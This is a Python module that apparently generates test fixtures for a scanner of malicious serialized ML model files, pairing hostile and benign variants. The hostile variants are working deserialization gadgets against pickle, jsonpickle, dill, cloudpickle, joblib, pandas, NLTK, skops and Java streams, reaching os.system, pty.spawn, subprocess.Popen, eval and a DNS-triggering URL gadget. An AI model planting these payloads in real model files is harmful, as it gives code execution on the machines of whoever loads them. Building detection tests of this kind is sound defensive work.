"""Files of Python's and others' learning libraries: stores, caches and codecs that load objects."""

from __future__ import annotations

import gzip
import io
import json
import lzma
import struct
import uuid

import h5py
import numpy as np

from assembly import call, dot, glob, model, pickle
from eighth.kit import HOST, calm, wicked
from pair import CODE, SHELL
from seventh.kit import zipped


def objects_store(data: bytes) -> bytes:
    """A PyTables file with an array of pickled objects, as pandas keeps columns of objects."""
    buffer = io.BytesIO()
    with h5py.File(buffer, "w") as f:
        f.attrs.update(
            {"CLASS": np.bytes_("GROUP"), "PYTABLES_FORMAT_VERSION": np.bytes_("2.1"), "TITLE": np.bytes_(""), "VERSION": np.bytes_("1.0")}
        )
        rows = f.create_dataset("vocabulary", (1,), dtype=h5py.vlen_dtype(np.uint8), maxshape=(None,), chunks=(64,))
        rows[0] = np.frombuffer(data, np.uint8)
        rows.attrs.update(
            {"CLASS": np.bytes_("VLARRAY"), "PSEUDOATOM": np.bytes_("object"), "TITLE": np.bytes_(""), "VERSION": np.bytes_("1.4")}
        )
    return buffer.getvalue()


def java(address: str | None) -> bytes:
    """A java.util.HashMap of one pair: a java.net.URL, whose hash looks the host up, or a text."""

    def text(value: str) -> bytes:
        return struct.pack(">H", len(value)) + value.encode()

    out = b"\xac\xed\0\5sr" + text("java.util.HashMap") + bytes.fromhex("0507dac1c31660d1") + b"\x03\0\x02"
    out += (
        b"F" + text("loadFactor") + b"I" + text("threshold") + b"xp" + struct.pack(">fI", 0.75, 12) + b"w\x08" + struct.pack(">II", 16, 1)
    )
    if address:
        out += (
            b"sr" + text("java.net.URL") + bytes.fromhex("962537361afce472") + b"\x03\0\x07" + b"I" + text("hashCode") + b"I" + text("port")
        )
        out += b"L" + text("authority") + b"t" + text("Ljava/lang/String;") + b"L" + text("file") + b"q\0\x7e\0\3"
        out += b"L" + text("host") + b"q\0\x7e\0\3" + b"L" + text("protocol") + b"q\0\x7e\0\3" + b"L" + text("ref") + b"q\0\x7e\0\3xp"
        out += struct.pack(">ii", -1, -1) + b"t" + text(address) + b"t" + text("") + b"q\0\x7e\0\5t" + text("http") + b"px"
    else:
        out += b"t" + text("label")
    return out + b"t" + text("model") + b"x"


def reduction(words: list[str]) -> bytes:
    """A skops archive: a method is fetched from an object of a class the file does not name twice."""
    schema = {
        "__class__": "dict",
        "__module__": "builtins",
        "__loader__": "DictNode",
        "content": {"tokenizer": words[0], "step": words[1]},
        "key_types": {"__class__": "list", "__module__": "builtins", "__loader__": "ListNode", "content": []},
        "protocol": 1,
        "_skops_version": "0.11.0",
    }
    schema["content"] = {
        "predict": {
            "__class__": "function",
            "__module__": words[2],
            "__loader__": "MethodNode",
            "__id__": 3,
            "content": {
                "func": words[1],
                "obj": {"__class__": words[0], "__module__": words[2], "__loader__": "ObjectNode", "__id__": 4, "content": None},
            },
        }
    }
    return zipped([("schema.json", json.dumps(schema))])


def add(out):
    def one(name, hostile, twin, file, why="", prove="pickle"):
        out.add("libraries", name, hostile, twin, prove, file, why)

    run = dot("code", "InteractiveInterpreter.runsource")
    interpreter = call(glob("code", "InteractiveInterpreter"))
    one(
        "tables_column_of_objects",
        objects_store(wicked(run, interpreter, CODE)),
        objects_store(calm(CODE)),
        "vocabulary.h5",
        "an array with the pseudo-atom object is unpickled when its rows are read",
        "tables",
    )
    one(
        "tagger_of_a_language_kit",
        {
            "taggers/averaged_perceptron_tagger/averaged_perceptron_tagger.pickle": pickle(
                (call(run, interpreter, CODE), {"the": "DT"}, ["DT", "NN"])
            )
        },
        {
            "taggers/averaged_perceptron_tagger/averaged_perceptron_tagger.pickle": pickle(
                ({"bias": {"DT": 0.5}}, {"the": "DT"}, ["DT", "NN"])
            )
        },
        None,
        "CVE-2024-39705: NLTK unpickles its data packages",
    )
    one(
        "json_with_a_reduction",
        json.dumps(
            {
                "py/object": "argparse.Namespace",
                "depth": 3,
                "scorer": {"py/reduce": [{"py/function": "posix.system"}, {"py/tuple": [SHELL]}]},
            }
        ),
        json.dumps(
            {
                "py/object": "argparse.Namespace",
                "depth": 3,
                "scorer": {"py/reduce": [{"py/type": "fractions.Fraction"}, {"py/tuple": [3, 7]}]},
            }
        ),
        "model.json",
        "jsonpickle's py/reduce",
        "jsonpickle",
    )
    one(
        "second_stage_in_a_sibling",
        {
            "model.pkl": pickle(model(call(glob("pandas", "read_pickle"), "vocab.dat", "gzip"))),
            "vocab.dat": gzip.compress(wicked(glob("pydoc", "pipepager"), "x", SHELL), mtime=0),
        },
        {
            "model.pkl": pickle(model(call(glob("collections", "deque"), ["vocab.dat", "gzip"]))),
            "vocab.dat": gzip.compress(b"the\nof\nand\n", mtime=0),
        },
        None,
        "the first pickle has pandas read the second, which is gzip under another name",
    )
    one(
        "profile_in_an_xz_frame",
        lzma.compress(wicked(glob("cProfile", "runctx"), CODE, {}, {})),
        lzma.compress(calm(CODE, {}, {})),
        "features.pkl.xz",
        "GHSA: cProfile.runctx, in what pandas.read_pickle opens by its ending",
        "pandas",
    )
    one(
        "dill_evaluates_a_repr",
        wicked(glob("dill._dill", "_eval_repr"), f"__import__('os').system('{SHELL}')"),
        pickle(model(call(glob("dill._dill", "_load_type"), "dict"))),
        "model.dill",
        "dill's own constructor of objects from their repr",
        "dill",
    )
    one(
        "cloudpickle_imports_then_attribute",
        wicked(call(glob("builtins", "getattr"), call(glob("cloudpickle.cloudpickle", "subimport"), "pty"), "spawn"), ["touch", "marker"]),
        pickle(model(call(glob("cloudpickle.cloudpickle", "subimport"), "math"))),
        "model.pkl",
        "subimport is how cloudpickle writes a module that a function uses",
    )
    cached = b"# first line: 3\ndef features(x):\n    return x\n"
    folder = "joblib/train/features/0b1f/"
    one(
        "result_in_a_cache_of_joblib",
        {
            folder + "output.pkl": wicked(glob("timeit", "timeit"), "0", CODE, glob("time", "perf_counter"), 1),
            folder + "metadata.json": '{"duration": 0.2, "input_args": {"x": "3"}}',
            "joblib/train/features/func_code.py": cached,
        },
        {
            folder + "output.pkl": calm("0", CODE, 1),
            folder + "metadata.json": '{"duration": 0.2, "input_args": {"x": "3"}}',
            "joblib/train/features/func_code.py": cached,
        },
        None,
        "GHSA: timeit.timeit; joblib.Memory loads the result of an earlier run",
        "joblib",
    )
    one(
        "method_of_a_class_not_named",
        reduction(["Popen", "communicate", "subprocess"]),
        reduction(["CountVectorizer", "transform", "sklearn.feature_extraction.text"]),
        "model.skops",
        "CVE-2025-54413: a MethodNode whose object is of another class; the fixed skops refuses it, so it is not run",
        None,
    )
    one(
        "java_map_looks_up_a_host",
        java(f"{uuid.UUID(int=7).hex[:8]}.{HOST}"),
        java(None),
        "classifier.model",
        "Weka and DL4J models are Java streams; the key of this one makes a request while it is read; no Java here, so it is not run",
        None,
    )
    one(
        "fortran_evaluator_in_a_joblib",
        wicked(glob("numpy.f2py.crackfortran", "myeval"), f"__import__('os').system('{SHELL}')", {}, {}),
        pickle(model(call(glob("numpy", "dtype"), "S4"))),
        "vectoriser.joblib",
        "GHSA: myeval is eval",
        "joblib",
    )
